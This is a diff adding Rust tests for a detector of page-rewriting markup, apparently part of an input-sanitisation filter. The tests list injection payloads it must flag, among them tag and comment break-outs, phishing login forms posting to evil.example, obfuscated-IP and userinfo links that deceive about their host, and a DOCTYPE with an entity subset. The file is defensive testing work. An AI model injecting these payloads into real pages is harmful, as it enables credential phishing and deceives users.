@@ -460,7 +460,8 @@ fn raw_text_element_breakouts() {
         "<textarea rows=3>notes</textarea>",
         "<noscript>Please enable JavaScript.</noscript>",
         // not raw-text elements, or not an end tag a browser would act on
-        "</div></p>",
+        // (a value that starts with any end tag is a break-out: see page_rewriting_markup)
+        "x </div></p> y",
         "</scripts>",
         "</script",
         "a </ script> b",
@@ -714,4 +715,73 @@ fn context_look_arounds_are_budgeted() {
     assert!(hit(&code));
     // a handful stays exempted
     assert!(!hit(&"x(function(){alert(1)});\n".repeat(3)));
+}
+
+#[test]
+fn page_rewriting_markup() {
+    for v in [
+        // break-outs from an element, comment or CDATA section the value never opened
+        "</div><h1>Session expired</h1>",
+        "</td></tr></table><p>x",
+        "  </SELECT>",
+        "-->{}",
+        "--><p>hello",
+        "]]><p>hello</p>",
+        "x]]><b>y</b>",
+        "<![endif]-->",
+        // document elements and forms where markup stands
+        "<body>",
+        "<HTML><HEAD>",
+        "<p>hi</p></body></html>",
+        "<form action=\"https://evil.example/login\" method=post>",
+        "<div><form>",
+        "<button formaction=\"//evil.example\">Save</button>",
+        "<input name=user form=login>",
+        "Sign in again: <form action=//evil.example><input name=pw></form>",
+        // prologs spliced after markup, internal subsets
+        "<p>x</p><?xml version=\"1.0\"?>",
+        "<span></span> <!doctype html>",
+        "<!DOCTYPE r [<!ENTITY a \"b\">]>",
+        // the web's vocabularies under an XML prefix
+        "<svg:svg><svg:rect width=\"100%\"/></svg:svg>",
+        "<MATH:math>",
+        "<html:form action=x>",
+        // SVG graphics outside an svg root
+        "<path d=\"M0 0L9 9\" fill=\"white\"/>",
+        "<a href=\"#\"><rect width=\"100%\" height=\"100%\" fill-opacity=\"0\"/></a>",
+        // links that deceive about their host
+        "<a href=\"https://bank.example@evil.example/\">bank</a>",
+        "<a href=\"http://3232235777/\">router</a>",
+        "<img src=\"http://0300.0250.0.1/x.png\">",
+        "<a href=\"http://0xC0.0xA8.0.1/\">x</a>",
+        "<a href=\"https://%62ank.example/\">x</a>",
+        "<a href=\"h&#x09;ttps://bank.example\">x</a>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        // editor output: balanced, no document elements, plain links, SVG with its root
+        "<p>Hello <strong>world</strong></p><ul><li>a</li></ul>",
+        "<p><a href=\"https://example.com/a@b\" target=\"_blank\" rel=\"noopener\">x</a></p>",
+        "<p><a href=\"http://192.168.0.1/\">router admin</a></p>",
+        "<p><a href=\"mailto:someone@example.com\">mail</a></p>",
+        "<svg width=\"24\" height=\"24\"><path d=\"M0 0L9 9\"/><circle r=\"4\"/></svg>",
+        "<p class=\"MsoNormal\">Text<o:p></o:p></p>",
+        "<!--StartFragment--><p>pasted</p><!--EndFragment-->",
+        "<ul><li><input type=\"checkbox\" checked> done</li></ul>",
+        "<p>x</p><button class=\"copy\">Copy</button>",
+        // mentions in prose and code
+        "A CGI script reads input submitted through an HTML <FORM> element.",
+        "print('<html>')",
+        "The RE matches the '<' in '<html>'",
+        "File --> Save As",
+        "a --> b --> c",
+        "if (a[b[c]]>0) {}",
+        "</komplement>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>x</to></note>",
+        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
+        "see <path> and <rect> in the SVG spec",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
 }
